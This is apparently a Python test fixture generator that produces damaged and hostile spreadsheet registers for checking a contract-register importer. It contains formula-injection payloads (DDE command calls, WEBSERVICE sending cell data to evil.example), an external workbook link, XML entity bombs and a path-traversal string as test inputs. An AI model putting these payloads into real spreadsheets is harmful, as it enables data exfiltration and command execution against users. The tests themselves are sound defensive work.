"""Registers that are damaged or hostile, from seeds, each with what reading it must give.

Every kind of damage says which cells it spoils; all other rows must come out as they went in.
"""

from __future__ import annotations

import random
from dataclasses import dataclass, field, fields, replace
from datetime import date, timedelta
from typing import TYPE_CHECKING

import openpyxl

from engine.contracts.contract import Contract, register_columns
from engine.files.register.write import register_text
from tests.engine.files.register.books import raw_workbook, sheet_part

if TYPE_CHECKING:
    from collections.abc import Callable
    from pathlib import Path

Dice = random.Random
KEYS = tuple(register_columns())
HOSTILE_TEXTS = (
    '=HYPERLINK("http://evil.example","x")',
    "=cmd|' /C calc'!A0",
    '=WEBSERVICE("http://evil.example/"&A1)',
    "=1+1",
    "=IMPORTXML(1)",
    '=DDE("cmd","/C calc","x")',
)
KEPT_TEXTS = ("+49 30 1234", "-", "@SUM(1+1)", "'=1", "<script>", "../../etc/passwd", "%n%s", "{}")
WRONG = {
    "date": ("soon", "31/02/2026", "2026-13-01", "1e308", "-1", "0", "TRUE", "99999999", "32/1/26"),
    "money": ("abc", "1e308", "-5", "1,25,0", "TRUE", "NaN", "inf", "1e999", "5 apples", "€5"),
    "whole": ("many", "1e308", "-1", "1.5", "TRUE", "NaN", "999999", "3 weeks", "12/5", "1e3"),
    "number": ("lots", "1e308", "-1", "TRUE", "NaN", "1/2", "9" * 400),
    "share": ("half", "50", "150%", "1e308", "-60%", "TRUE", "NaN", "1/2", "%"),
    "flag": ("maybe", "2", "yes no", "1e308", "nope"),
    "unit": ("horses", "1e308", "gpu gpu", "TRUE", "5"),
    "schedule": ("5m", "0: 5m", "2: 5m", "1: x", "1: 5m; 1: 6m", "1: 1e308", "1: -5"),
    "text": (*HOSTILE_TEXTS, "#REF!", "#N/A", "x" * 2000),
}
_GERMAN = (
    *("Januar", "Februar", "März", "April", "Mai", "Juni", "Juli", "August", "September"),
    *("Oktober", "November", "Dezember"),
)
_FRENCH = (
    *("janvier", "février", "mars", "avril", "mai", "juin", "juillet", "août", "septembre"),
    *("octobre", "novembre", "décembre"),
)
_SPANISH = (
    *("enero", "febrero", "marzo", "abril", "mayo", "junio", "julio", "agosto", "septiembre"),
    *("octubre", "noviembre", "diciembre"),
)
_ENGLISH = (
    *("January", "February", "March", "April", "May", "June", "July", "August", "September"),
    *("October", "November", "December"),
)

DAYS: tuple[Callable[[date], str], ...] = (
    lambda day: f"{day:%d/%m/%Y}",
    lambda day: f"{day:%d.%m.%Y}",
    lambda day: f"{day.day}. {_GERMAN[day.month - 1]} {day.year}",
    lambda day: f"{day.day} {_FRENCH[day.month - 1]} {day.year}",
    lambda day: f"{day.day} de {_SPANISH[day.month - 1]} de {day.year}",
    lambda day: f"{_ENGLISH[day.month - 1]} {day.day}, {day.year}",
    lambda day: f"{day.year}年{day.month}月{day.day}日",
    lambda day: str((day - date(1899, 12, 30)).days),
    lambda day: f"{day:%Y%m%d}",
)


@dataclass
class Case:
    """A file, and what it must give: `refusal` of all of it, or the cells that are refused.

    Without either of them anything goes that is in order: bytes were changed at random.
    """

    path: Path
    contracts: list[Contract]
    spoiled: set[tuple[int, str]] = field(default_factory=set)  # row of the file, key
    refusal: str = ""
    anything: bool = False

    def left(self) -> list[Contract]:
        rows = {row for row, _ in self.spoiled}
        return [each for row, each in enumerate(self.contracts, start=2) if row not in rows]


def case(folder: Path, seed: int) -> Case:
    dice = random.Random(seed)  # noqa: S311 - a test's dice
    contracts = [_contract(dice, number) for number in range(dice.randint(3, 12))]
    kinds = tuple(KINDS)
    return KINDS[kinds[seed % len(kinds)]](folder, dice, contracts)


def _contract(dice: Dice, number: int) -> Contract:
    return Contract(
        id=f"C{number}",
        supplier=dice.choice(["Nimbus", "Cirrus & Co", "Süd", "O'Neill"]),
        start=date(2023, 1, 1) + timedelta(days=dice.randrange(1500)),
        term_months=dice.randint(1, 120),
        monthly_fee=dice.choice([dice.randint(1, 900) / 8, 1250.0, 0.1]),
        capacity=dice.choice([None, 4096.0]),
        capacity_unit="gpu",
        take_or_pay_pct=dice.choice([0.5, 0.8, 1.0]),
        notice_months=dice.choice([None, 0, 6]),
        auto_renew=dice.random() < 0.5,
        fee_schedule=dice.choice([(), ((1, 5.0), (13, 7.5))]),
    )


# Cells that are wrong --------------------------------------------------------------------------


def _grid(contracts: list[Contract]) -> list[list[str]]:
    import csv
    from io import StringIO

    return list(csv.reader(StringIO(register_text(contracts))))


def _csv(folder: Path, rows: list[list[str]]) -> Path:
    import csv

    path = folder / "register.csv"
    with path.open("w", encoding="utf-8", newline="") as file:
        csv.writer(file).writerows(rows)
    return path


def _xlsx(folder: Path, rows: list[list[str]]) -> Path:
    """Texts only, as a careless export has them."""
    parts = []
    for number, row in enumerate(rows, start=1):
        cells = "".join(
            f'<c r="{_name(place)}{number}" t="inlineStr"><is><t>{_xml(text)}</t></is></c>'
            for place, text in enumerate(row)
            if text
        )
        parts.append(f'<row r="{number}">{cells}</row>')
    return raw_workbook(folder, sheet_part("".join(parts)))


def _name(place: int) -> str:
    return chr(65 + place) if place < 26 else f"A{chr(39 + place)}"


def _xml(text: str) -> str:
    return text.replace("&", "&amp;").replace("<", "&lt;")


def wrong_cells(folder: Path, dice: Dice, contracts: list[Contract]) -> Case:
    """Wrong types, numbers out of all bounds, formulas: one to five cells."""
    rows = _grid(contracts)
    spoiled = set()
    for _ in range(dice.randint(1, 5)):
        row, key = dice.randint(1, len(contracts)), dice.choice(KEYS)
        rows[row][KEYS.index(key)] = dice.choice(WRONG[register_columns()[key].kind])
        spoiled.add((row + 1, key))
    write = dice.choice((_csv, _xlsx))
    return Case(write(folder, rows), contracts, spoiled)


def blanks(folder: Path, dice: Dice, contracts: list[Contract]) -> Case:
    """What is needed is missing."""
    rows = _grid(contracts)
    spoiled = set()
    changed = [replace(each, fee_schedule=()) for each in contracts]
    for each in rows[1:]:
        each[KEYS.index("fee_schedule")] = ""
    for _ in range(dice.randint(1, 4)):
        row = dice.randint(1, len(contracts))
        key = dice.choice(("start", "term_months", "monthly_fee"))
        rows[row][KEYS.index(key)] = dice.choice(("", " ", "-", "n/a"))
        spoiled.add((row + 1, key))
    return Case(dice.choice((_csv, _xlsx))(folder, rows), changed, spoiled)


def same_ids(folder: Path, dice: Dice, contracts: list[Contract]) -> Case:
    rows = _grid(contracts)
    row = dice.randint(2, len(contracts))
    rows[row][0] = rows[dice.randint(1, row - 1)][0]
    return Case(_csv(folder, rows), contracts, {(row + 1, "id")})


def hostile_texts(folder: Path, dice: Dice, contracts: list[Contract]) -> Case:
    """Formulas are refused; other text that spreadsheets run is kept as text."""
    changed = [replace(each, service=dice.choice(KEPT_TEXTS)) for each in contracts]
    rows = _grid(changed)
    row = dice.randint(1, len(contracts))
    key = dice.choice(("supplier", "service", "reference", "currency_note", "id"))
    rows[row][KEYS.index(key)] = dice.choice(HOSTILE_TEXTS)
    return Case(dice.choice((_csv, _xlsx))(folder, rows), changed, {(row + 1, key)})


def moved_rows(folder: Path, dice: Dice, contracts: list[Contract]) -> Case:
    """A number with commas that nobody put into quotes."""
    text = register_text(contracts).splitlines()
    row = dice.randint(1, len(contracts))
    text[row] += dice.choice((",000,000", ",x", ",,,5"))
    path = folder / "register.csv"
    path.write_text("\n".join(text), encoding="utf-8")
    return Case(path, contracts, {(row + 1, "")})


# Dates --------------------------------------------------------------------------------------


def foreign_days(folder: Path, dice: Dice, contracts: list[Contract]) -> Case:
    """Days as texts of one locale; one of them is after the twelfth, which settles the order."""
    written = dice.choice(DAYS)
    changed = [replace(contracts[0], start=date(2026, 3, 31)), *contracts[1:]]
    rows = _grid(changed)
    for row, each in enumerate(changed, start=1):
        rows[row][KEYS.index("start")] = written(each.start)
    return Case(dice.choice((_csv, _xlsx))(folder, rows), changed)


def mixed_days(folder: Path, dice: Dice, contracts: list[Contract]) -> Case:
    """Every row in another locale, none of them in doubt."""
    rows = _grid(contracts)
    for row, each in enumerate(contracts, start=1):
        rows[row][KEYS.index("start")] = dice.choice(DAYS[2:])(each.start)
    return Case(_csv(folder, rows), contracts)


def doubtful_days(folder: Path, dice: Dice, contracts: list[Contract]) -> Case:
    """Either order is possible everywhere."""
    days = [date(2026, 4, 5), date(2026, 5, 4)]
    changed = [replace(each, start=days[at % 2]) for at, each in enumerate(contracts)]
    rows = _grid(changed)
    for row, each in enumerate(changed, start=1):
        rows[row][KEYS.index("start")] = f"{each.start:%d/%m/%Y}"
    spoiled = {(row + 2, "start") for row in range(len(changed))}
    return Case(_csv(folder, rows), changed, spoiled)


# Headers ------------------------------------------------------------------------------------


def double_headers(folder: Path, dice: Dice, contracts: list[Contract]) -> Case:
    rows = _grid(contracts)
    place = dice.randrange(len(KEYS))
    for row in rows:
        row.append(row[place])
    fault = f"has 2 columns for {KEYS[place]}: column "
    return Case(dice.choice((_csv, _xlsx))(folder, rows), contracts, refusal=fault)


def lost_headers(folder: Path, dice: Dice, contracts: list[Contract]) -> Case:
    rows = _grid(contracts)
    key = dice.choice(("start", "term_months"))
    rows[0][KEYS.index(key)] = dice.choice(("", "???", "=1+1", "x" * 5000))
    return Case(_csv(folder, rows), contracts, refusal=f"has no column for {key}; its headers are")


# Workbooks ----------------------------------------------------------------------------------


def merged_cells(folder: Path, dice: Dice, contracts: list[Contract]) -> Case:
    book = openpyxl.Workbook()
    sheet = book.worksheets[0]
    rows = _grid(contracts)
    for row in rows:
        sheet.append([text or None for text in row])
    top = dice.randint(2, len(contracts))
    place = dice.randrange(len(KEYS))
    bottom = min(top + dice.randint(1, 3), len(contracts) + 1)
    letter = _name(place)
    sheet.merge_cells(f"{letter}{top}:{letter}{bottom}")
    path = folder / "register.xlsx"
    book.save(path)
    return Case(path, contracts, {(row, KEYS[place]) for row in range(top + 1, bottom + 1)})


def uncomputed_formulas(folder: Path, dice: Dice, contracts: list[Contract]) -> Case:
    book = openpyxl.Workbook()
    sheet = book.worksheets[0]
    for texts in _grid(contracts):
        sheet.append([text or None for text in texts])
    spoiled = set()
    for _ in range(dice.randint(1, 4)):
        row, key = dice.randint(2, len(contracts) + 1), dice.choice(KEYS)
        formula = dice.choice((*HOSTILE_TEXTS, "='[http://evil.example/x.xlsx]S'!A1", "=RAND()"))
        sheet.cell(row, KEYS.index(key) + 1).value = formula
        spoiled.add((row, key))
    path = folder / "register.xlsx"
    book.save(path)
    return Case(path, contracts, spoiled)


def bombs(folder: Path, dice: Dice, contracts: list[Contract]) -> Case:
    """Small files of much: entities, nesting, long tags, rows and columns without end."""
    head = "<!DOCTYPE a [<!ENTITY b 'bb'>" + "".join(
        f"<!ENTITY b{at} '&b;&b;&b;&b;&b;&b;&b;&b;'>" for at in range(9)
    )
    header = "".join(f'<c t="str"><v>{key}</v></c>' for key in KEYS[:9])
    rows, fault = dice.choice(
        (
            (("<row/>" * 60_000, f"{head}]>"), "a part of it defines entities"),
            (("<a>" * 90_000, ""), "nested too deeply"),
            (('<row a="' + "x" * 9_000_000 + '"/>', ""), "a piece of it is too long"),
            ((f'<row>{header}</row><row r="1048577"/>', ""), "is not where it should be"),
            (
                (f'<row>{header}</row><row r="900000"><c><v>1</v></c></row>', ""),
                "is too large; allowed: up to 201,000 rows",
            ),
            (
                (f'<row>{header}</row><row><c r="XFD2"><v>1</v></c></row>', ""),
                "is too large; allowed: up to 201,000 rows and 100 columns",
            ),
        )
    )
    path = raw_workbook(folder, sheet_part(rows[0], head=rows[1]))
    return Case(path, contracts, refusal=fault)


def links(folder: Path, dice: Dice, contracts: list[Contract]) -> Case:
    """Links to other files: their stored values are taken, they are not followed."""
    changed = [replace(each, fee_schedule=()) for each in contracts]
    parts = []
    for number, row in enumerate(_grid(changed), start=1):
        cells = []
        for place, text in enumerate(row):
            formula = "<f>'[1]Sheet'!A1</f>" if number > 1 and dice.random() < 0.3 else ""
            if text:
                name = f"{_name(place)}{number}"
                cells.append(f'<c r="{name}" t="str">{formula}<v>{_xml(text)}</v></c>')
        parts.append(f'<row r="{number}">{"".join(cells)}</row>')
    target = '<externalLink><externalBook r:id="rId1"/></externalLink>'
    more: dict[str, str | bytes] = {
        "xl/externalLinks/externalLink1.xml": target,
        "xl/externalLinks/_rels/externalLink1.xml.rels": "<R Target='http://evil.example/'/>",
        "xl/vbaProject.bin": b"\x00macro",
    }
    return Case(raw_workbook(folder, sheet_part("".join(parts)), more), changed)


# Bytes ----------------------------------------------------------------------------------------


def random_bytes(folder: Path, dice: Dice, contracts: list[Contract]) -> Case:
    write = dice.choice((_csv, _xlsx))
    path = write(folder, _grid(contracts))
    data = bytearray(path.read_bytes())
    for _ in range(dice.randint(1, 20)):
        place = dice.randrange(len(data))
        data[place : place + dice.randint(0, 4)] = dice.randbytes(dice.randint(0, 4))
    path.write_bytes(bytes(data))
    return Case(path, contracts, anything=True)


def cut_files(folder: Path, dice: Dice, contracts: list[Contract]) -> Case:
    path = dice.choice((_csv, _xlsx))(folder, _grid(contracts))
    data = path.read_bytes()
    path.write_bytes(data[: dice.randrange(len(data))])
    return Case(path, contracts, anything=True)


def wrong_names(folder: Path, dice: Dice, contracts: list[Contract]) -> Case:
    """A workbook that is called CSV, and the other way round."""
    path = dice.choice((_csv, _xlsx))(folder, _grid(contracts))
    other = path.with_suffix(".xlsx" if path.suffix == ".csv" else ".csv")
    path.rename(other)
    fault = "is not a workbook" if other.suffix == ".xlsx" else "is not text"
    return Case(other, contracts, refusal=fault)


KINDS: dict[str, Callable[[Path, Dice, list[Contract]], Case]] = {
    each.__name__: each
    for each in (
        *(wrong_cells, blanks, same_ids, hostile_texts, moved_rows, foreign_days, mixed_days),
        *(doubtful_days, double_headers, lost_headers, merged_cells, uncomputed_formulas),
        *(bombs, links, random_bytes, cut_files, wrong_names),
    )
}


def in_order(contract: Contract) -> bool:
    """Whether every value is one that its column may hold."""
    for each in fields(contract):
        column = register_columns().get(each.name)
        value = getattr(contract, each.name)
        if column is None or value is None or column.minimum is None or column.maximum is None:
            continue
        held = [fee for _, fee in value] if isinstance(value, tuple) else [value]
        if not all(column.minimum <= one <= column.maximum for one in held):
            return False
    return bool(contract.id)
